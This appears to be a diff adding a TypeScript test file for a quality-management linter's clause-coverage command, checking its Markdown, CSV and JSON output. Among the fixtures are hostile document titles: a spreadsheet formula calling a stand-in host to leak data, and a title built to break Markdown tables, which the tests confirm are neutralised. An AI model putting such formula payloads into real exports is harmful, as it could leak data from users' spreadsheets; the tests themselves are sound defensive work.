@@ -1,0 +1,257 @@
+// `qmslint coverage` as users run it (the bundled CLI, spawned) in the
+// markdown, csv and json formats, checked against the core's matrix computed
+// in-process on the same files.
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join, relative } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { describe, expect, it } from 'vitest';
+import { computeCoverage, groupTotals } from '../../server/src/core/coverage';
+import { lintFiles } from '../../server/src/cli/lint-files';
+import { CSV_HEADER } from '../../server/src/cli/coverage/csv';
+import { CLEAN_SOP } from '../helpers';
+
+const repo = fileURLToPath(new URL('../../', import.meta.url));
+const cli = join(repo, 'out/cli.js');
+
+function workspace(files: Record<string, string>): string {
+  const dir = mkdtempSync(join(tmpdir(), 'qmslint-cov-'));
+  for (const [name, content] of Object.entries(files)) {
+    mkdirSync(dirname(join(dir, name)), { recursive: true });
+    writeFileSync(join(dir, name), content);
+  }
+  return dir;
+}
+
+function run(cwd: string, ...args: string[]) {
+  const r = spawnSync(process.execPath, [cli, 'coverage', ...args, '--today', '2026-11-26'], { cwd, encoding: 'utf8', timeout: 60000, env: { ...process.env, NO_COLOR: '1' } });
+  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
+}
+
+/** RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold both and "" for a quote. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let i = 0;
+  while (i < text.length) {
+    if (text[i] === '"' && field === '') {
+      for (i++; ; i++) {
+        if (i >= text.length) throw new Error('unterminated quoted field');
+        if (text[i] === '"' && text[i + 1] === '"') (field += '"'), i++;
+        else if (text[i] === '"') break;
+        else field += text[i];
+      }
+      i++;
+      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
+    } else if (text[i] === ',') {
+      row.push(field);
+      field = '';
+      i++;
+    } else if (text[i] === '\r') {
+      if (text[i + 1] !== '\n') throw new Error(`CR without LF at ${i}`);
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i += 2;
+    } else if (text[i] === '\n' || text[i] === '"') {
+      throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
+    } else {
+      field += text[i++];
+    }
+  }
+  if (field !== '' || row.length) throw new Error('last record does not end in CRLF');
+  return rows;
+}
+
+const INJECTION = '=HYPERLINK("http://example.invalid/?leak","click me"), then more';
+const TABLE_BREAKER = 'Risk | <b>bold</b> ![x](y) *and* [link](z)';
+
+const sop = (id: string, fields: { title?: string; status?: string; clause: string }) =>
+  CLEAN_SOP.replace('id: SOP-001', `id: ${id}`)
+    .replace('title: Control of Documents', `title: ${JSON.stringify(fields.title ?? `Procedure ${id}`)}`)
+    .replace('status: effective', `status: ${fields.status ?? 'effective'}`)
+    .replace('clauses: ["4.2.4"]', `clauses: ["${fields.clause}"]`)
+    .replace('§4.2.4', `§${fields.clause}`);
+
+const files = {
+  '.qmslint.yaml': 'standard: iso13485:2016\n',
+  'sops/sop-001.md': sop('SOP-001', { title: 'Control of Documents', clause: '4.2.4' }),
+  // A draft whose title is a spreadsheet formula: 8.2.2 is covered by drafts only.
+  'sops/sop-002.md': sop('SOP-002', { title: INJECTION, status: 'draft', clause: '8.2.2' }),
+  'sops/sop-003.md': sop('SOP-003', { title: TABLE_BREAKER, clause: '7.3.2' }),
+  'sops/sop-004.md': sop('SOP-004', { title: '-1+2 @risk\nsecond line', status: 'in-review', clause: '8.3.1' }),
+};
+
+interface Json {
+  tool: string;
+  version: string;
+  standards: {
+    standard: string;
+    title: string;
+    summary: Record<string, number>;
+    groups: { id: string; title: string; clauses: number; covered: number; draftOnly: number; notCovered: number; required: number; requiredCovered: number }[];
+    clauses: {
+      clause: { id: string; title: string; parent: string | null; documentedProcedure: boolean; documentedProcess: boolean; records: boolean };
+      group: string;
+      state: string;
+      required: boolean;
+      documents: { path: string; id: string | null; title: string | null; status: string | null; line: number; column: number; via: string }[];
+    }[];
+  }[];
+}
+
+describe('qmslint coverage on the examples', () => {
+  it('prints Markdown: the summary, the group table, and the gap clauses', () => {
+    const r = run(repo, 'examples');
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0); // the examples have lint errors; coverage reports, it does not gate
+    const md = r.stdout;
+    expect(md).toMatch(/^# Clause coverage: ISO 13485:2016\n/);
+    expect(md).toMatch(/\*\*\d+ of 91 clauses covered\*\* \(\d+%\)/);
+    expect(md).toMatch(/\*\*\d+ of \d+ required procedures covered\*\*/);
+    expect(md).toContain('| Group | Heading | Clauses | Covered | Draft only | Not covered | Required | Required covered |');
+    for (const g of ['4 | Quality management system', '5 | Management responsibility', '6 | Resource management', '7 | Product realization', '8 | Measurement, analysis and improvement']) {
+      expect(md).toMatch(new RegExp(`^\\| ${g.replace(/[|]/g, '\\|')} \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\| \\d+ \\|$`, 'm'));
+    }
+    for (const h of ['## 4 Quality management system', '## 8 Measurement, analysis and improvement']) expect(md).toContain(`\n${h}\n\n| Clause | Heading | Procedure | State | Documents |\n`);
+    // Gaps the examples README promises: complaint handling and nonconforming product.
+    expect(md).toContain('| 8.2.2 | Complaint handling | required | **[ ] not covered** | - |');
+    expect(md).toContain('| 8.3.1 | Nonconforming product - general | required | **[ ] not covered** | - |');
+    expect(md).toMatch(/\*\*Gaps:\*\* .*8\.2\.2 Complaint handling/);
+    expect(md).toMatch(/^\| 4\.2\.4 \| Control of documents \| required \| \[x\] covered \| .*SOP-001 Control of Documents \(effective\), examples\/sops\/sop-001-control-of-documents\.md:\d+/m);
+    expect(md).not.toMatch(/\p{Extended_Pictographic}/u);
+  });
+
+  it('writes --output instead of standard output', () => {
+    const dir = workspace({});
+    const out = join(dir, 'coverage.csv');
+    const r = run(repo, 'examples', '--format', 'csv', '--output', out);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toBe('');
+    expect(parseCsv(readFileSync(out, 'utf8'))[0]).toEqual(CSV_HEADER);
+  });
+});
+
+describe('qmslint coverage on a workspace', () => {
+  const dir = workspace(files);
+
+  it('matches computeCoverage run in-process (json)', async () => {
+    const r = run(dir, '--format', 'json');
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0);
+    const json = JSON.parse(r.stdout) as Json;
+    expect(Object.keys(json)).toEqual(['tool', 'version', 'standards']);
+    expect(json.standards).toHaveLength(1);
+    const [s] = json.standards;
+    expect(Object.keys(s)).toEqual(['standard', 'title', 'summary', 'groups', 'clauses']);
+
+    const { result } = await lintFiles({ patterns: ['.'], format: 'json', today: '2026-11-26' }, dir);
+    const matrix = computeCoverage(result.index, result.catalog, result.config.standard)!;
+    expect(s.standard).toBe(matrix.standard);
+    expect(s.title).toBe(matrix.title);
+    expect(s.summary).toEqual(matrix.summary);
+    const groups = groupTotals(matrix);
+    expect(s.groups).toEqual(groups.map(({ clause, members: _, ...t }) => ({ id: clause.id, title: clause.title, ...t })));
+    expect(s.clauses.map((c) => c.clause.id)).toEqual(matrix.clauses.map((c) => c.clause.id));
+    matrix.clauses.forEach((c, i) => {
+      const j = s.clauses[i];
+      expect(j.clause).toEqual({
+        id: c.clause.id,
+        title: c.clause.title,
+        parent: c.clause.parent ?? null,
+        documentedProcedure: Boolean(c.clause.documentedProcedure),
+        documentedProcess: Boolean(c.clause.documentedProcess),
+        records: Boolean(c.clause.records),
+      });
+      expect(j.group).toBe(groups.find((g) => g.members.includes(c.clause.id))!.clause.id);
+      expect({ state: j.state, required: j.required }).toEqual({ state: c.state, required: c.required });
+      expect(j.documents.map(({ path, id, title, status, via }) => ({ path, id, title, status, via }))).toEqual(
+        c.documents.map((d) => ({ path: relative(dir, d.path), id: d.id ?? null, title: d.title ?? null, status: d.status ?? null, via: d.via })),
+      );
+    });
+    // The states this workspace was built to show.
+    const state = (id: string) => s.clauses.find((c) => c.clause.id === id)!.state;
+    expect([state('4.2.4'), state('8.2.2'), state('8.3.1'), state('7.3.1')]).toEqual(['covered', 'draft-only', 'draft-only', 'not-covered']);
+    // Positions point at the citation: the front matter's clauses line.
+    const doc = s.clauses.find((c) => c.clause.id === '8.2.2')!.documents[0];
+    expect(readFileSync(join(dir, doc.path), 'utf8').split('\n')[doc.line - 1]).toContain('8.2.2');
+  });
+
+  it('sums group totals to the summary', () => {
+    const json = JSON.parse(run(dir, '--format', 'json').stdout) as Json;
+    const [s] = json.standards;
+    for (const key of ['clauses', 'covered', 'draftOnly', 'notCovered', 'required', 'requiredCovered'] as const) {
+      expect(s.groups.reduce((n, g) => n + g[key], 0)).toBe(s.summary[key]);
+    }
+    expect(s.groups.map((g) => g.id)).toEqual(['4', '5', '6', '7', '8']);
+  });
+
+  it('writes RFC 4180 CSV that parses back, one row per clause and document, formulas neutralised', () => {
+    const r = run(dir, '--format', 'csv');
+    expect(r.code).toBe(0);
+    const rows = parseCsv(r.stdout);
+    expect(rows[0]).toEqual(CSV_HEADER);
+    const json = JSON.parse(run(dir, '--format', 'json').stdout) as Json;
+    const expected = json.standards[0].clauses.reduce((n, c) => n + Math.max(1, c.documents.length), 0);
+    expect(rows).toHaveLength(1 + expected);
+    for (const row of rows) expect(row).toHaveLength(CSV_HEADER.length);
+    const col = (name: string) => CSV_HEADER.indexOf(name);
+    const row822 = rows.find((r) => r[col('Clause')] === '8.2.2')!;
+    expect(row822[col('Document title')]).toBe(`'${INJECTION}`);
+    expect(row822[col('State')]).toBe('draft-only');
+    expect(row822[col('Gap')]).toBe('yes');
+    expect(r.stdout).toContain(`"'=HYPERLINK(""http://example.invalid/?leak"",""click me""), then more"`);
+    const row831 = rows.find((r) => r[col('Clause')] === '8.3.1')!;
+    expect(row831[col('Document title')]).toBe("'-1+2 @risk\nsecond line");
+    const row72 = rows.find((r) => r[col('Clause')] === '7.2')!;
+    expect(row72.slice(col('Document ID'))).toEqual(['', '', '', '', '', '']);
+    // No cell a spreadsheet would evaluate.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('keeps hostile titles inside their Markdown table cell', () => {
+    const r = run(dir);
+    expect(r.code).toBe(0);
+    const line = r.stdout.split('\n').find((l) => l.startsWith('| 7.3.2 |'))!;
+    // Five cells: six unescaped pipes.
+    expect(line.match(/(?<!\\)\|/g)).toHaveLength(6);
+    expect(line).toContain('Risk \\| \\<b\\>bold\\</b\\> \\!\\[x\\](y) \\*and\\* \\[link\\](z)');
+    const draft = r.stdout.split('\n').find((l) => l.startsWith('| 8.3.1 |'))!;
+    expect(draft).toContain('-1+2 @risk second line (in-review), sops/sop-004.md:');
+    expect(draft).toContain('**[~] draft only**');
+  });
+
+  it('reports the configured further standards, and --standard first', () => {
+    const multi = workspace({ ...files, '.qmslint.yaml': 'standard: iso13485:2016\nstandards: [iso9001:2015, "ISO 13485:2016"]\n' });
+    const json = JSON.parse(run(multi, '--format', 'json').stdout) as Json;
+    expect(json.standards.map((s) => s.standard)).toEqual(['iso13485:2016', 'iso9001:2015']);
+    const md = run(multi).stdout;
+    expect(md).toContain('# Clause coverage: ISO 13485:2016\n');
+    expect(md).toContain('# Clause coverage: ISO 9001:2015\n');
+    const cfr = JSON.parse(run(multi, '--format', 'json', '--standard', '21cfr820').stdout) as Json;
+    expect(cfr.standards.map((s) => s.standard)).toEqual(['21cfr820', 'iso9001:2015', 'iso13485:2016']);
+    // 21 CFR 820 has no subclauses: every section is its own group.
+    expect(cfr.standards[0].groups.map((g) => g.id)).toEqual(cfr.standards[0].clauses.map((c) => c.clause.id));
+  });
+
+  it('exits 2 for an unknown standard, on the command line or in the config', () => {
+    const r = run(dir, '--standard', 'iso99999:2030');
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('unknown standard "iso99999:2030"');
+    expect(r.stdout).toBe('');
+    const bad = workspace({ ...files, '.qmslint.yaml': 'standards: [nope:1]\n' });
+    const r2 = run(bad);
+    expect(r2.code).toBe(2);
+    expect(r2.stderr).toMatch(/\.qmslint\.yaml: unknown standard "nope:1"/);
+  });
+
+  it('refuses a format coverage does not have', () => {
+    const r = run(dir, '--format', 'sarif');
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('unknown format "sarif"; use one of: markdown, csv, json, html');
+    expect(existsSync(join(dir, 'sarif'))).toBe(false);
+  });
+});
